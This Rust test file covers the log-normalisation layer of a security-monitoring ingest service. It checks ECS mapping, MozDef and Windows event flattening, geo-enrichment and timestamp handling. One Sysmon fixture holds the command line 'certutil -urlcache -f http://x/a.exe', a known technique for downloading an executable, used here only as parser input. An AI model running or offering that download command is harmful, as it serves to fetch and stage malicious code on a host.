//! Normalisation's tests: ECS fields derived from every shape of input,
//! times judged, the sender's text kept where nothing changed.

use super::*;
use serde_json::json;

fn ctx() -> IngestContext {
    IngestContext {
        geo: None,
        source_id: Some(Uuid::nil()),
        source_kind: app::ingest::SourceKind::ApiKey,
        source_name: "test-shipper".into(),
        received_at: DateTime::parse_from_rfc3339("2026-11-29T12:00:00Z")
            .unwrap()
            .with_timezone(&Utc),
    }
}

/// Normalises `doc` from its text (the ingest path) and as a parsed value
/// (syslog, fully-parsed documents), and checks that both agree.
fn norm(doc: Value) -> Event {
    let parsed = normalize(doc.clone(), &ctx(), IngestPolicy::default()).unwrap();
    let text = normalize_text(&doc.to_string(), &ctx(), IngestPolicy::default()).unwrap();
    let comparable = |event: &Event| {
        let mut document = event.document();
        document["event"]["id"] = Value::Null;
        let mut event = event.clone();
        event.id = Uuid::nil();
        event.payload = document.to_string();
        event
    };
    assert_eq!(comparable(&parsed), comparable(&text));
    text
}

#[test]
fn public_addresses_gain_their_place_and_the_shippers_own_wins() {
    let geo_ctx = IngestContext {
        geo: Some(crate::ingest::geoip::tests::installed()),
        ..ctx()
    };
    let norm_geo = |doc: Value| {
        normalize_text(&doc.to_string(), &geo_ctx, IngestPolicy::default())
            .unwrap()
            .document()
    };
    // Parsed from an sshd line, then placed.
    let doc = norm_geo(json!({
        "message": "Failed password for root from 81.2.69.142 port 50022 ssh2",
        "process": {"name": "sshd"},
        "destination": {"ip": "2a00:1450:4001:82b::200e"}
    }));
    assert_eq!(doc["source"]["ip"], "81.2.69.142");
    assert_eq!(doc["source"]["geo"]["city_name"], "London");
    assert_eq!(doc["source"]["geo"]["country_iso_code"], "GB");
    assert!(doc["source"]["geo"]["location"]["lat"].is_f64());
    assert_eq!(doc["destination"]["geo"]["country_iso_code"], "DE");
    // What the shipper sent stays; private addresses get nothing.
    let doc = norm_geo(json!({
        "source": {"ip": "81.2.69.142", "geo": {"city_name": "Shipper's own"}},
        "destination": {"ip": "10.1.2.3"}
    }));
    assert_eq!(doc["source"]["geo"], json!({"city_name": "Shipper's own"}));
    assert!(doc["destination"].get("geo").is_none());
    // Without databases, no enrichment.
    let doc = norm(json!({"source": {"ip": "81.2.69.142"}})).document();
    assert!(doc["source"].get("geo").is_none());
}

#[test]
fn non_objects_are_rejected_with_their_kind() {
    for (doc, kind) in [
        (json!([1]), "an array"),
        (json!("x"), "a string"),
        (json!(null), "null"),
    ] {
        let rejection = normalize(doc, &ctx(), IngestPolicy::default()).unwrap_err();
        assert_eq!(rejection.code, "not_an_object");
        assert!(rejection.message.contains(kind), "{}", rejection.message);
    }
}

#[test]
fn ecs_documents_pass_through_into_columns() {
    let event = norm(json!({
        "@timestamp": "2026-11-29T11:59:00Z",
        "event": {"category": ["authentication"], "action": "ssh_login", "outcome": "Failure"},
        "host": {"name": "bastion-1"},
        "source": {"ip": "203.0.113.7", "port": 50022},
        "user": {"name": "root"},
        "process": {"name": "sshd", "pid": 411},
        "message": "Failed password for root from 203.0.113.7 port 50022 ssh2",
        "tags": ["ssh", "prod"],
        "labels": {"env": "prod"}
    }));
    assert_eq!(event.ts.to_rfc3339(), "2026-11-29T11:59:00+00:00");
    assert_eq!(event.category.as_deref(), Some("authentication"));
    assert_eq!(event.action.as_deref(), Some("ssh_login"));
    assert_eq!(event.outcome.as_deref(), Some("failure"));
    assert_eq!(event.host_name.as_deref(), Some("bastion-1"));
    assert_eq!(event.source_ip, Some("203.0.113.7".parse().unwrap()));
    assert_eq!(event.user_name.as_deref(), Some("root"));
    assert_eq!(event.process_name.as_deref(), Some("sshd"));
    assert_eq!(event.tags, vec!["ssh", "prod"]);
    assert_eq!(event.document()["labels"]["env"], "prod");
    assert_eq!(event.document()["source"]["port"], 50022);
    assert_eq!(
        event.document()["event"]["ingested"],
        "2026-11-29T12:00:00.000000Z"
    );
    assert_eq!(event.document()["event"]["id"], event.id.to_string());
    assert_eq!(event.document()["vigil"]["source"]["name"], "test-shipper");
    assert!(event.document()["vigil"].get("flags").is_none());
}

#[test]
fn mozdef_events_map_as_mozdef_did() {
    let event = norm(json!({
        "utctimestamp": "2026-11-29T11:00:00+00:00",
        "summary": "joe login failed",
        "category": "Authentication",
        "hostname": "ldap1.corp",
        "processname": "slapd",
        "processid": "1234",
        "severity": "INFO",
        "source": "ldap",
        "tags": ["ldap", "adminAccess", "failure"],
        "details": {"username": "joe", "success": false, "sourceipaddress": "10.1.2.3"}
    }));
    assert_eq!(event.ts.to_rfc3339(), "2026-11-29T11:00:00+00:00");
    assert_eq!(event.message.as_deref(), Some("joe login failed"));
    assert_eq!(event.category.as_deref(), Some("authentication"));
    assert_eq!(event.host_name.as_deref(), Some("ldap1.corp"));
    assert_eq!(event.process_name.as_deref(), Some("slapd"));
    assert_eq!(event.log_level.as_deref(), Some("info"));
    assert_eq!(event.user_name.as_deref(), Some("joe"));
    assert_eq!(event.outcome.as_deref(), Some("failure"));
    assert_eq!(event.source_ip, Some("10.1.2.3".parse().unwrap()));
    assert_eq!(event.document()["process"]["pid"], 1234);
    // MozDef's string `source` is kept, moved aside for ECS's `source` object.
    assert_eq!(event.document()["vigil"]["original"]["source"], "ldap");
    assert_eq!(
        event.document()["event"]["provider"],
        "ldap",
        "rules read it here"
    );
    assert_eq!(event.document()["source"]["ip"], "10.1.2.3");
    assert_eq!(event.document()["summary"], "joe login failed");
    assert_eq!(event.document()["details"]["username"], "joe");
    assert_eq!(
        event.document()["vigil"]["flags"],
        json!(["renamed_conflicting_fields"])
    );
}

#[test]
fn mozdef_geolocations_become_ecs_geo() {
    let event = norm(json!({
        "summary": "alice logged in",
        "details": {
            "username": "alice",
            "sourceipaddress": "81.2.69.142",
            "sourceipgeolocation": {"city": "London", "country_code": "GB",
                                    "latitude": 51.5142, "longitude": "-0.0931", "time_zone": "Europe/London"}
        }
    }));
    assert_eq!(
        event.document()["source"]["geo"],
        json!({"city_name": "London", "country_iso_code": "GB", "timezone": "Europe/London",
               "location": {"lat": 51.5142, "lon": -0.0931}})
    );
}

#[test]
fn a_single_string_tag_becomes_a_list() {
    let event = norm(json!({"summary": "x", "tags": "test"}));
    assert_eq!(event.tags, vec!["test"]);
}

#[test]
fn nested_windows_exports_are_flattened_to_sigma_names() {
    // The first SigmaHQ regression event (a real EVTX export) with an Image field.
    let doc = first_regression_event().expect("SigmaHQ regression data in ../shared/data");
    let event = norm(doc.clone());
    let payload = &event.document();
    assert!(
        payload.get("Event").is_none(),
        "the nested form is replaced by flat fields"
    );
    assert!(payload.get("EventID").is_some());
    assert!(payload.get("Channel").is_some());
    assert!(payload.get("Provider_Name").is_some());
    let system_time = doc["Event"]["System"]["TimeCreated"]["#attributes"]["SystemTime"]
        .as_str()
        .unwrap();
    assert_eq!(payload["TimeCreated_SystemTime"], system_time);
    assert_eq!(
        event.host_name.as_deref(),
        doc["Event"]["System"]["Computer"].as_str()
    );
    // The recorded time is older than 90 days, so it is kept but flagged.
    assert_eq!(payload["vigil"]["flags"], json!(["timestamp_out_of_range"]));
    assert_eq!(payload["vigil"]["original_timestamp"], system_time);
    for (name, value) in doc["Event"]["EventData"].as_object().unwrap() {
        assert_eq!(&payload[name], value, "EventData field {name}");
    }
}

#[test]
fn windows_user_data_fields_are_flattened_by_name() {
    let doc = json!({"Event": {
        "System": {"EventID": 5858, "Channel": "Microsoft-Windows-WMI-Activity/Operational"},
        "UserData": {"Operation_ClientFailure": {
            "#attributes": {"xmlns": "http://manifests.microsoft.com/win/2006/windows/WMI"},
            "Operation": "ExecMethod cleareventlog",
            "ResultCode": "0x80041003"
        }}
    }});
    let event = normalize(doc, &ctx(), IngestPolicy::default()).unwrap();
    let payload = event.document();
    assert_eq!(payload["Operation"], "ExecMethod cleareventlog");
    assert_eq!(payload["ResultCode"], "0x80041003");
    assert!(payload.get("xmlns").is_none() && payload.get("UserData").is_none());
}

fn first_regression_event() -> Option<Value> {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../shared/data/sigma/regression_data");
    let mut stack = vec![root];
    while let Some(dir) = stack.pop() {
        let mut entries: Vec<_> = std::fs::read_dir(&dir)
            .ok()?
            .flatten()
            .map(|e| e.path())
            .collect();
        entries.sort();
        for path in entries {
            if path.is_dir() {
                stack.push(path);
            } else if path.extension().is_some_and(|e| e == "json")
                && let Ok(text) = std::fs::read_to_string(&path)
                && let Ok(value) = serde_json::from_str::<Value>(&text)
                && value["Event"]["EventData"]["Image"].is_string()
            {
                return Some(value);
            }
        }
    }
    None
}

#[test]
fn flat_windows_events_get_ecs_fields() {
    let event = norm(json!({
        "EventID": 4625, "Channel": "Security", "Hostname": "WORKSTATION5",
        "TargetUserName": "pgustavo", "IpAddress": "172.18.39.5",
        "TimeCreated": "2026-11-29 11:58:00.123", "Message": "An account failed to log on."
    }));
    assert_eq!(event.category.as_deref(), Some("authentication"));
    assert_eq!(event.outcome.as_deref(), Some("failure"));
    assert_eq!(event.host_name.as_deref(), Some("WORKSTATION5"));
    assert_eq!(event.user_name.as_deref(), Some("pgustavo"));
    assert_eq!(event.source_ip, Some("172.18.39.5".parse().unwrap()));
    assert_eq!(event.document()["event"]["code"], "4625");
    assert_eq!(event.ts.to_rfc3339(), "2026-11-29T11:58:00.123+00:00");

    let sysmon = norm(json!({
        "EventID": "1", "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil -urlcache -f http://x/a.exe"
    }));
    assert_eq!(sysmon.process_name.as_deref(), Some("certutil.exe"));
    assert_eq!(sysmon.action.as_deref(), Some("process-created"));
    assert_eq!(
        sysmon.document()["process"]["command_line"],
        "certutil -urlcache -f http://x/a.exe"
    );
    assert_eq!(
        sysmon.document()["Image"],
        "C:\\Windows\\System32\\certutil.exe"
    );
}

#[test]
fn events_without_a_usable_time_are_kept_at_receive_time_and_flagged() {
    let missing = norm(json!({"message": "no time here"}));
    assert_eq!(missing.ts, ctx().received_at);
    assert_eq!(
        missing.document()["vigil"]["flags"],
        json!(["timestamp_missing"])
    );

    let future = norm(json!({"@timestamp": "2027-06-01T00:00:00Z", "message": "from the future"}));
    assert_eq!(future.ts, ctx().received_at);
    assert_eq!(
        future.document()["vigil"]["original_timestamp"],
        "2027-06-01T00:00:00Z"
    );
    assert_eq!(
        future.document()["vigil"]["flags"],
        json!(["timestamp_out_of_range"])
    );

    // Two days old: kept at its time, flagged; an hour old: not flagged.
    let late = norm(json!({"@timestamp": "2026-11-27T11:00:00Z", "message": "late"}));
    assert_eq!(late.ts.to_rfc3339(), "2026-11-27T11:00:00+00:00");
    assert_eq!(late.document()["vigil"]["flags"], json!(["arrived_late"]));
    let recent = norm(json!({"@timestamp": "2026-11-29T11:00:00Z", "message": "recent"}));
    assert!(recent.document()["vigil"].get("flags").is_none());

    let garbage = norm(json!({"timestamp": "last tuesday", "message": "x"}));
    assert_eq!(
        garbage.document()["vigil"]["flags"],
        json!(["timestamp_unparsed"])
    );
    assert_eq!(garbage.document()["timestamp"], "last tuesday");
}

#[test]
fn shipper_scalars_in_ecs_places_move_aside_instead_of_vanishing() {
    let event = norm(
        json!({"host": "web01", "program": "nginx", "message": "GET /", "@timestamp": "2026-11-29T11:00:00Z"}),
    );
    assert_eq!(event.host_name.as_deref(), Some("web01"));
    assert_eq!(event.document()["host"]["name"], "web01");
    assert_eq!(event.document()["vigil"]["original"]["host"], "web01");
    assert_eq!(event.process_name.as_deref(), Some("nginx"));
}

#[test]
fn bad_addresses_do_not_become_columns() {
    let event = norm(json!({"source": {"ip": "not-an-ip"}, "destination": {"ip": "10.0.0.1:443"}}));
    assert_eq!(event.source_ip, None);
    assert_eq!(event.destination_ip, Some("10.0.0.1".parse().unwrap()));
    assert_eq!(event.document()["source"]["ip"], "not-an-ip");
}

#[test]
fn nul_characters_cannot_reach_postgres() {
    let event = norm(json!({"message": "a\u{0}b", "k\u{0}": ["x\u{0}"], "o": {"i": "\u{0}"}}));
    let text = event.payload.clone();
    assert!(
        !text.contains("\\u0000") && !text.contains('\u{0}'),
        "{text}"
    );
    assert_eq!(event.message.as_deref(), Some("a\u{FFFD}b"));
}

#[test]
fn sshd_and_access_lines_gain_structure() {
    let ssh = norm(json!({
        "@timestamp": "2026-11-29T11:00:00Z", "host": "LabSZ", "program": "sshd",
        "message": "Failed password for invalid user webmaster from 173.234.31.186 port 38926 ssh2"
    }));
    assert_eq!(ssh.category.as_deref(), Some("authentication"));
    assert_eq!(ssh.outcome.as_deref(), Some("failure"));
    assert_eq!(ssh.user_name.as_deref(), Some("webmaster"));
    assert_eq!(ssh.source_ip, Some("173.234.31.186".parse().unwrap()));

    let web = norm(json!({
        "message": "10.1.2.3 - bob [29/Nov/2026:10:00:00 +0100] \"POST /login HTTP/1.1\" 401 512 \"-\" \"curl/8.5.0\""
    }));
    assert_eq!(web.ts.to_rfc3339(), "2026-11-29T09:00:00+00:00");
    assert_eq!(web.category.as_deref(), Some("web"));
    assert_eq!(web.outcome.as_deref(), Some("failure"));
    assert_eq!(web.user_name.as_deref(), Some("bob"));
    assert_eq!(web.document()["http"]["response"]["status_code"], 401);
    assert_eq!(web.document()["user_agent"]["original"], "curl/8.5.0");
}

#[test]
fn wrong_types_for_known_fields_are_kept_not_fatal() {
    let doc = json!({
        "@timestamp": {"not": "a time"},
        "host": 42,
        "source": {"ip": 7},
        "user": ["alice", "bob"],
        "event": "a string where ECS has an object",
        "tags": {"a": 1},
        "message": 3.5
    });
    let event = norm(doc);
    assert_eq!(event.ts, ctx().received_at);
    assert_eq!(
        event.document()["vigil"]["flags"],
        json!(["timestamp_unparsed", "renamed_conflicting_fields"])
    );
    assert_eq!(
        event.document()["vigil"]["original"]["event"],
        "a string where ECS has an object"
    );
    assert_eq!(
        event.document()["host"],
        42,
        "a non-text host stays as sent"
    );
    assert_eq!(event.source_ip, None);
    assert_eq!(event.message.as_deref(), Some("3.5"));
    assert_eq!(event.document()["user"], json!(["alice", "bob"]));
}

#[test]
fn times_are_written_as_chrono_writes_them() {
    let mut ts = DateTime::parse_from_rfc3339("0001-01-01T00:00:00Z")
        .unwrap()
        .with_timezone(&Utc);
    for step in 0..20_000i64 {
        let expected = ts.to_rfc3339_opts(SecondsFormat::Micros, true);
        assert_eq!(rfc3339_micros(ts), expected);
        ts += chrono::Duration::microseconds(step * 7_919_371_113 + 1);
    }
    let leap = chrono::NaiveDate::from_ymd_opt(2016, 12, 31)
        .unwrap()
        .and_hms_micro_opt(23, 59, 59, 1_500_000)
        .unwrap()
        .and_utc();
    assert_eq!(
        rfc3339_micros(leap),
        leap.to_rfc3339_opts(SecondsFormat::Micros, true)
    );
}

#[test]
fn ids_are_unique_and_carry_the_event_time() {
    let a = norm(json!({"message": "a", "@timestamp": "2026-11-29T11:00:00.123Z"}));
    let b = norm(json!({"message": "b", "@timestamp": "2026-11-29T11:00:00.123Z"}));
    assert_ne!(a.id, b.id);
    assert_eq!(a.id.get_version_num(), 7);
    assert_eq!(a.id.get_variant(), uuid::Variant::RFC4122);
    assert_eq!(
        time_of_id(a.id).unwrap().to_rfc3339(),
        "2026-11-29T11:00:00.123+00:00"
    );
    let late = norm(json!({"message": "c", "@timestamp": "2026-11-20T00:00:00Z"}));
    assert_eq!(
        time_of_id(late.id).unwrap().to_rfc3339(),
        "2026-11-20T00:00:00+00:00"
    );
    let ts = ctx().received_at;
    let ids: Vec<Uuid> = (0..10_000).map(|_| event_id(ts)).collect();
    assert!(
        ids.windows(2).all(|w| w[0] < w[1]),
        "one thread, one millisecond: increasing"
    );
    let other = event_id(ts - chrono::Duration::milliseconds(1));
    assert!(other < ids[0], "an earlier event time sorts first");
}
